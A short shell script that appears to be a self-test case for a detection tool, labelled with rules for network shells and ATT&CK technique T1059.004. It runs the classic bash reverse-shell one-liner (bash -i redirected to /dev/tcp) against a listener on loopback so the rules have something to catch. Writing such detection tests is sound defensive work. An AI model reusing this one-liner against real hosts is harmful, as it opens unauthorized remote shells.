#!/bin/sh
# rule: Standard input or output of a process tied to a network connection
# rule: Shell or interpreter started on a network connection
# rule: Network shell written on a command line
# technique: T1059.004
# case: the best known line of bash, against a listener on loopback
# needs: bash, python3

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
command -v bash >/dev/null || exit 77
. "${0%/*}/listener.inc"
bash -c "bash -i >& /dev/tcp/127.0.0.1/$(cat port) 0>&1; exit 0"
wait
